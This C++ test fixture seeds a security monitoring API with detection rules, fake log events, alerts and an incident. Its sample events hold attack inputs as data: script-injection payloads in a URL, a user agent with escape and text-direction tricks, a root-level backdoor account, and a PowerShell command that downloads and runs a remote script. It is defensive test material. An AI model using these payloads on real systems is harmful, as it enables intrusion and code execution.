#include "tests/api/seed.h"

#include "base/hash.h"
#include "base/time.h"
#include "event/event_json.h"

namespace picket::api {
namespace {

std::int64_t at(const std::string& text) {
  return parse_time(text)->time_ns;
}

TimelineEntry entry(std::int64_t time_ns, std::string alert, std::string rule, std::string name,
                    Level level, Layer layer) {
  TimelineEntry made;
  made.time_ns = time_ns;
  made.alert_id = std::move(alert);
  made.rule_id = std::move(rule);
  made.rule_name = std::move(name);
  made.level = level;
  made.layer = layer;
  return made;
}

constexpr const char* kScanRule = R"(title: Web scanner by user agent
id: 7c1f0d52-5a0e-4f0b-9d53-0f6f5c0b2a01
status: stable
description: A tool that looks for weak spots names itself in the request.
logsource:
    category: webserver
detection:
    agent:
        user_agent.original|contains:
            - 'sqlmap'
            - 'nikto'
            - 'masscan'
    missing:
        http.response.status_code: 404
    condition: agent and missing
falsepositives:
    - A test that was announced
level: medium
tags:
    - attack.reconnaissance
    - attack.t1595
)";

constexpr const char* kFailedRule = R"(title: SSH password refused
id: 7c1f0d52-5a0e-4f0b-9d53-0f6f5c0b2a02
name: ssh_refused
status: stable
logsource:
    product: linux
    service: sshd
detection:
    refused:
        event.action: ssh_login
        event.outcome: failure
    condition: refused
level: informational
)";

constexpr const char* kGuessRule = R"(title: SSH password guessing
id: 7c1f0d52-5a0e-4f0b-9d53-0f6f5c0b2a03
status: stable
correlation:
    type: event_count
    rules:
        - ssh_refused
    group-by:
        - source.ip
        - host.name
    timespan: 5m
    condition:
        gte: 5
level: high
tags:
    - attack.credential_access
    - attack.t1110
)";

constexpr const char* kAccountRule = R"(title: Account made on a server
id: 7c1f0d52-5a0e-4f0b-9d53-0f6f5c0b2a04
status: stable
logsource:
    product: linux
detection:
    made:
        event.action: user_added
        user.name|re: '.+'
    condition: made
level: medium
tags:
    - attack.persistence
    - attack.t1136
)";

constexpr const char* kDownloadRule = R"(title: PowerShell fetches code from the network
id: 7c1f0d52-5a0e-4f0b-9d53-0f6f5c0b2a05
status: stable
description: Code that is fetched and run without touching the disk.
logsource:
    product: windows
    category: process_creation
detection:
    image:
        Image|endswith: '\powershell.exe'
    fetch:
        CommandLine|contains:
            - 'DownloadString'
            - 'Invoke-WebRequest'
    quiet:
        CommandLine|contains: '-nop'
    condition: image and fetch and quiet
falsepositives:
    - Installers of some vendors
level: critical
tags:
    - attack.execution
    - attack.t1059.001
)";

}  // namespace

Seed::Seed() {
  store.sources = {"edge-fw", "web-access", "auth.log", "sysmon"};
  add_scan();
  add_ssh();
  add_account();
  add_download();
  add_incident();
  add_noise_incident();
  add_ledger();
  fill_ports();
}

void Seed::add_rule(const std::string& id, const std::string& path, const std::string& text,
                    std::vector<std::string> refers_to) {
  const std::size_t title = text.find("title: ") + 7;
  RuleSource rule{.id = id,
                  .name = text.substr(title, text.find('\n') - title),
                  .path = path,
                  .hash = sha256_hex(text),
                  .text = text,
                  .first_line = 1,
                  .refers_to = std::move(refers_to)};
  rules[id] = std::move(rule);
}

EventRef Seed::add_event(EventSeed event) {
  std::uint64_t seq = 0;
  for (const auto& record : store.records) seq += record.source == event.source ? 1U : 0U;
  EventRef ref{.source_id = {}, .source = event.source, .seq = seq, .time_ns = at(event.time)};
  store.records.push_back({event.source, seq, ref.time_ns + 40'000'000, event.raw});
  events_[{event.source, seq}] = std::move(event);
  return ref;
}

Alert& Seed::add_alert(const std::string& rule_id, AlertKind kind, Level level,
                       const std::vector<EventRef>& events, const std::vector<MatchSeed>& seeds) {
  const RuleSource& rule = rules.at(rule_id);
  Alert alert;
  alert.kind = kind;
  alert.rule = {rule.id, rule.name, level, rule.hash, rule.path};
  alert.trigger = events.back();
  alert.time_ns = alert.last_seen_ns = alert.trigger.time_ns;
  alert.events = events;
  alert.hit_count = events.size();
  alert.system = "portal";
  alert.layer = events_.at({alert.trigger.source, alert.trigger.seq}).layer;
  alert.layers = {alert.layer};
  for (const MatchSeed& seed : seeds) {
    Match match{seed.event,      seed.selection, seed.line, seed.field,
                seed.rule_field, seed.value,     0,         0};
    if (!seed.lit.empty()) {
      match.begin = static_cast<std::uint32_t>(seed.value.find(seed.lit));
      match.end = match.begin + static_cast<std::uint32_t>(seed.lit.size());
    }
    alert.matches.push_back(match);
  }
  alert.id = make_alert_id(alert);
  store.alert_list.insert(store.alert_list.begin(), alert);
  return store.alert_list.front();
}

void Seed::add_scan() {
  const std::string id = "7c1f0d52-5a0e-4f0b-9d53-0f6f5c0b2a01";
  add_rule(id, "content/rules/application/web_scanner_agent.yml", kScanRule);
  // The path of the request carries what a careless page would run.
  const std::string path = "/?q=<img src=x onerror=alert(1)></script><script>alert(2)</script>";
  const std::string agent =
      "sqlmap/1.7 (https://sqlmap.org) \x1b[31mred\x1b[0m \xe2\x80\xaegnp.exe";
  const EventRef event = add_event({"web-access",
                                    "web.access",
                                    Layer::kApplication,
                                    "2026-11-22T02:12:03Z",
                                    "203.0.113.7 - - [22/Nov/2026:09:12:03 +0700] \"GET " + path +
                                        " HTTP/1.1\" 404 162 \"-\" \"" + agent + "\"",
                                    {{"source.ip", "203.0.113.7"},
                                     {"http.request.method", "GET"},
                                     {"url.original", path},
                                     {"http.response.status_code", "404"},
                                     {"user_agent.original", agent}}});
  Alert& alert =
      add_alert(id, AlertKind::kDetection, Level::kMedium, {event},
                {{event, "agent", 9, "user_agent.original", "user_agent.original", agent, "sqlmap"},
                 {event, "missing", 14, "http.response.status_code", "http.response.status_code",
                  "404", ""}});
  alert.tags = {"attack.reconnaissance", "attack.t1595"};
  alert.entities = {{"host", "web-01"}, {"ip", "203.0.113.7"}};
}

void Seed::add_ssh() {
  const std::string refused = "7c1f0d52-5a0e-4f0b-9d53-0f6f5c0b2a02";
  const std::string guess = "7c1f0d52-5a0e-4f0b-9d53-0f6f5c0b2a03";
  add_rule(refused, "content/rules/server/ssh_refused.yml", kFailedRule);
  add_rule(guess, "content/rules/server/ssh_guessing.yml", kGuessRule, {refused});
  std::vector<EventRef> events;
  std::vector<MatchSeed> matches;
  for (int i = 0; i < 7; ++i) {
    const std::string second = std::to_string(10 + i * 5);
    events.push_back(
        add_event({"auth.log",
                   "sshd.auth",
                   Layer::kServer,
                   "2026-11-22T02:14:" + second + "Z",
                   "Nov 22 09:14:" + second +
                       " web-01 sshd[812]: Failed password for root from 203.0.113.7 port 5" +
                       std::to_string(1000 + i * 7) + " ssh2",
                   {{"host.name", "web-01"},
                    {"process.name", "sshd"},
                    {"user.name", "root"},
                    {"source.ip", "203.0.113.7"},
                    {"source.port", "5" + std::to_string(1000 + i * 7)}}}));
    matches.push_back(
        {events.back(), "refused", 10, "event.outcome", "event.outcome", "failure", ""});
  }
  Alert& alert = add_alert(guess, AlertKind::kCorrelation, Level::kHigh, events, matches);
  alert.group = {{"source.ip", "203.0.113.7"}, {"host.name", "web-01"}};
  alert.window = {events.front().time_ns, events.back().time_ns, 7};
  alert.tags = {"attack.credential_access", "attack.t1110"};
  alert.entities = {{"host", "web-01"}, {"ip", "203.0.113.7"}, {"user", "root"}};
}

void Seed::add_account() {
  const std::string id = "7c1f0d52-5a0e-4f0b-9d53-0f6f5c0b2a04";
  add_rule(id, "content/rules/server/account_made.yml", kAccountRule);
  const EventRef event =
      add_event({"auth.log",
                 "linux.useradd",
                 Layer::kServer,
                 "2026-11-22T02:15:10Z",
                 "Nov 22 09:15:10 web-01 useradd[901]: new user: name=svc-bk, UID=0, "
                 "GID=0, home=/home/svc-bk, shell=/bin/bash \xff\xfe\x01",
                 {{"host.name", "web-01"},
                  {"process.name", "useradd"},
                  {"user.name", "svc-bk"},
                  {"user.id", "0"}}});
  Alert& alert = add_alert(id, AlertKind::kDetection, Level::kMedium, {event},
                           {{event, "made", 9, "user.name", "user.name", "svc-bk", "svc-bk"}});
  alert.tags = {"attack.persistence", "attack.t1136"};
  alert.entities = {{"host", "web-01"}, {"user", "svc-bk"}};
}

void Seed::add_download() {
  const std::string id = "7c1f0d52-5a0e-4f0b-9d53-0f6f5c0b2a05";
  add_rule(id, "content/rules/endpoint/powershell_download.yml", kDownloadRule);
  const std::string image = R"(C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe)";
  const std::string command =
      R"(powershell.exe -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.9/x.ps1')\")";
  const EventRef event = add_event(
      {"sysmon",
       "windows.sysmon",
       Layer::kEndpoint,
       "2026-11-22T02:18:44Z",
       R"({"EventID":1,"Channel":"Microsoft-Windows-Sysmon/Operational","Computer":"FIN-PC07","UtcTime":"2026-11-22 02:18:44.120","Image":")" +
           image + R"(","CommandLine":")" + command +
           R"(","User":"SOA\\lan.tt","ParentImage":"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE"})",
       {{"host.name", "FIN-PC07"},
        {"process.executable", image, true},
        {"process.command_line", command, true},
        {"user.name", R"(SOA\\lan.tt)", true}}});
  const std::string plain_image = R"(C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe)";
  const std::string plain_command =
      R"~(powershell.exe -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.9/x.ps1')")~";
  Alert& alert = add_alert(
      id, AlertKind::kDetection, Level::kCritical, {event},
      {{event, "image", 10, "process.executable", "Image", plain_image, "\\powershell.exe"},
       {event, "fetch", 13, "process.command_line", "CommandLine", plain_command, "DownloadString"},
       {event, "quiet", 16, "process.command_line", "CommandLine", plain_command, "-nop"}});
  alert.tags = {"attack.execution", "attack.t1059.001"};
  alert.entities = {{"host", "fin-pc07"}, {"ip", "198.51.100.9"}, {"user", "lan.tt"}};
}

void Seed::add_incident() {
  Incident incident;
  incident.id = "5f0c6a1e";
  incident.number = 2;
  incident.level = Level::kCritical;
  incident.risk = 92;
  incident.system = "portal";
  incident.owner = "Phòng CNTT <it@agency.example>";
  for (auto alert = store.alert_list.rbegin(); alert != store.alert_list.rend(); ++alert) {
    store.incident_of.emplace_back(alert->id, incident.id);
    incident.timeline.push_back(entry(alert->time_ns, alert->id, alert->rule.id, alert->rule.name,
                                      alert->rule.level, alert->layer));
    for (const Entity& entity : alert->entities) incident.entities.push_back(entity);
  }
  // What the edge saw: an alert without a proof in the store, as after retention.
  incident.timeline.insert(incident.timeline.begin(),
                           entry(at("2026-11-22T02:11:40Z"), "gone", "port-sweep",
                                 "Port sweep from outside", Level::kLow, Layer::kNetwork));
  std::sort(incident.entities.begin(), incident.entities.end());
  incident.entities.erase(std::unique(incident.entities.begin(), incident.entities.end()),
                          incident.entities.end());
  incident.layers = {Layer::kNetwork, Layer::kServer, Layer::kApplication, Layer::kEndpoint};
  incident.tags = {"attack.reconnaissance", "attack.t1110", "attack.t1136", "attack.t1059.001"};
  incident.first_ns = incident.timeline.front().time_ns;
  incident.last_ns = incident.timeline.back().time_ns;
  incident.created_ns = incident.last_ns;
  incident.alert_count = incident.timeline.size();
  store.incident_list.push_back(incident);
  run = {{"id", "run-1"},
         {"incident", incident.id},
         {"playbook",
          {{"id", "contain"},
           {"name", "Notify and contain"},
           {"names", {{"en", "Notify and contain"}, {"vi", "Báo tin và ngăn chặn"}}}}},
         {"status", "waiting"},
         {"started", "2026-11-22T02:18:46Z"},
         {"steps",
          {{{"id", "mail"},
            {"name", "Notify the owner by e-mail"},
            {"status", "done"},
            {"at", "2026-11-22T02:18:47Z"},
            {"detail", "250 accepted"},
            {"verbs", Json::array()}},
           {{"id", "hook"},
            {"name", "Call the webhook"},
            {"status", "failed"},
            {"at", "2026-11-22T02:18:48Z"},
            {"detail", "<b>connection refused</b>"},
            {"verbs", {"retry", "skip"}}},
           {{"id", "block"},
            {"name", "Block 203.0.113.7 at the firewall"},
            {"status", "waiting"},
            {"at", "2026-11-22T02:18:48Z"},
            {"detail", ""},
            {"verbs", {"approve", "reject"}}}}}};
}

void Seed::add_noise_incident() {
  Incident incident;
  incident.id = "0a77c0de";
  incident.number = 1;
  incident.status = IncidentStatus::kAcknowledged;
  incident.level = Level::kLow;
  incident.risk = 18;
  incident.system = "intranet";
  incident.timeline.push_back(entry(at("2026-11-21T22:01:09Z"), "gone2", "usb",
                                    "Removable disk on <b>a server</b>", Level::kLow,
                                    Layer::kServer));
  incident.layers = {Layer::kServer};
  incident.entities = {{"host", "file-02"}};
  incident.first_ns = incident.last_ns = incident.created_ns = at("2026-11-21T22:01:09Z");
  incident.alert_count = 1;
  store.incident_list.push_back(incident);
}

void Seed::add_ledger() {
  for (const std::string& source : store.sources) {
    storage::Ledger ledger;
    ledger.source = source;
    ledger.received = 1200 + 17 * source.size();
    ledger.stored = ledger.received - 5;
    ledger.rejected = {{"framing", 2}, {"oversize", 1}};
    ledger.dropped = {{"queue_full", 2}};
    ledger.parsed = ledger.stored - 3;
    ledger.partial = 2;
    ledger.raw = 1;
    ledger.bytes = ledger.stored * 310;
    store.ledgers.push_back(ledger);
  }
}

void Seed::parse(Batch& batch) {
  for (const Record& record : batch.records()) {
    const std::string& source = store.sources.at(static_cast<std::size_t>(record.source));
    const EventSeed& seed = events_.at({source, record.seq});
    EventKind kind;
    kind.dataset = seed.dataset;
    kind.layer = seed.layer;
    if (seed.dataset == "sshd.auth") {
      kind.constants = {{*intern_field("event.action"), "ssh_login"},
                        {*intern_field("event.outcome"), "failure"}};
    }
    if (seed.dataset == "windows.sysmon") {
      kind.aliases = {{*intern_field("process.command_line"), *intern_field("CommandLine")}};
    }
    Event& event = batch.begin_event();
    event.time_ns = at(seed.time);
    event.kind = intern_kind(kind);
    event.status = ParseStatus::kParsed;
    event.layer = seed.layer;
    for (const FieldSeed& field : seed.fields) {
      const std::size_t place = record.raw.find(field.token);
      std::string name = field.name;
      if (seed.dataset == "windows.sysmon" && name == "process.command_line") name = "CommandLine";
      batch.push({record.raw.data() + place, static_cast<std::uint32_t>(field.token.size()),
                  *intern_field(name), ValueKind::kString, field.escaped});
    }
  }
}

SearchPage Seed::search(const SearchQuery& query) {
  searches.push_back(query.text);
  SearchPage page;
  const std::size_t start = query.cursor.empty() ? 0 : std::stoul(query.cursor);
  std::size_t index = 0;
  for (auto record = store.records.rbegin(); record != store.records.rend(); ++record) {
    page.totals.bytes_scanned += record->raw.size();
    ++page.totals.rows;
    if (record->raw.find(query.text) == std::string::npos) continue;
    if (index++ < start) continue;
    if (page.events.size() == query.limit) {
      page.next = std::to_string(index - 1);
      break;
    }
    const auto source = std::find(store.sources.begin(), store.sources.end(), record->source);
    Batch batch;
    batch.add(record->raw, SourceId(static_cast<std::uint32_t>(source - store.sources.begin())),
              record->seq, record->received_ns);
    parse(batch);
    page.events.push_back(event_json(batch, batch.events()[0], record->source));
  }
  return page;
}

void Seed::fill_ports() {
  ports.store = &store;
  ports.parse = [this](Batch& batch) { parse(batch); };
  ports.search = [this](const SearchQuery& query) -> Result<SearchPage> {
    if (query.text == "(") return fail(Errc::kInvalid, "the query ends inside a bracket");
    return search(query);
  };
  ports.rule_source = [this](std::string_view id) -> Result<RuleSource> {
    const auto found = rules.find(std::string(id));
    if (found == rules.end()) return fail(Errc::kNotFound, "no rule " + std::string(id));
    return found->second;
  };
  ports.runs = [this](std::string_view incident) -> Result<std::vector<Json>> {
    if (!incident.empty() && incident != "5f0c6a1e") return std::vector<Json>();
    return std::vector<Json>{run};
  };
  ports.run = [this](std::string_view id) -> Result<Json> {
    if (id != "run-1") return fail(Errc::kNotFound, "no run " + std::string(id));
    return run;
  };
  ports.command_step = [this](const StepCommand& command) -> Result<Json> {
    if (command.run != "run-1") return fail(Errc::kNotFound, "no run " + command.run);
    if (command.verb == StepVerb::kReverse) return fail(Errc::kInvalid, "nothing to undo");
    commands.push_back(std::string(step_verb_name(command.verb)) + " " + command.step);
    for (Json& step : run["steps"]) {
      if (step["id"] != command.step) continue;
      step["status"] = command.verb == StepVerb::kReject ? "rejected" : "done";
      step["verbs"] = Json::array();
    }
    run["status"] = "done";
    return run;
  };
  response::System portal;
  portal.name = "portal";
  portal.name_en = "Service portal";
  portal.name_vi = "Cổng dịch vụ";
  portal.level = 3;
  systems = response::Systems({portal});
  ports.systems = &systems;
  ports.start_backtest = [this](BacktestRequest request) -> Result<Json> {
    if (!backtests.empty()) return fail(Errc::kBusy, "backtest '1' is running");
    backtests.push_back(std::move(request));
    return Json{{"id", "1"}, {"status", "running"}};
  };
  ports.backtests = [this] {
    return backtests.empty() ? Json::array() : Json::array({{{"id", "1"}, {"status", "running"}}});
  };
  ports.backtest = [this](std::string_view id) -> Result<Json> {
    if (id != "1" || backtests.empty()) return fail(Errc::kNotFound, "there is no such backtest");
    return Json{{"id", "1"}, {"status", "done"}, {"result", Json::object()}};
  };
  ports.cancel_backtest = [this](std::string_view id) -> Result<Json> {
    if (id != "1" || backtests.empty()) return fail(Errc::kNotFound, "there is no such backtest");
    backtests.clear();
    return Json{{"id", "1"}, {"status", "running"}};
  };
  ports.try_rule = [this](TryRequest request, const TryAnswer& answer) {
    tries.push_back(std::move(request));
    if (tries.back().text == "busy") return answer(fail(Errc::kBusy, "too many"));
    answer(Json{{"rules", Json::array()}});
  };
  ports.now = [] { return Nanos(1'800'000'000'000'000'000); };
  ports.change_incident =
      [this](const correlator::IncidentOrder& order) -> Result<correlator::OrderResult> {
    using Outcome = correlator::OrderResult::Outcome;
    for (Incident& incident : store.incident_list) {
      if (incident.id != order.incident) continue;
      if (!order.version.empty() && order.version != incident_version(incident)) {
        return correlator::OrderResult{Outcome::kStale, {incident}};
      }
      orders.push_back(order);
      if (order.kind == correlator::IncidentOrder::Kind::kUndo)
        return fail(Errc::kInvalid, "nothing to undo");
      if (order.status) incident.status = *order.status;
      if (order.assignee) incident.assignee = *order.assignee;
      if (order.disposition) incident.disposition = *order.disposition;
      return correlator::OrderResult{Outcome::kChanged, {incident}};
    }
    return fail(Errc::kNotFound, "no incident " + order.incident);
  };
  ports.metrics = [] { return std::string("picket_ledger_residual{source=\"auth.log\"} 0\n"); };
  ports.status = [] { return Json{{"version", "0.1.0"}}; };
}

}  // namespace picket::api
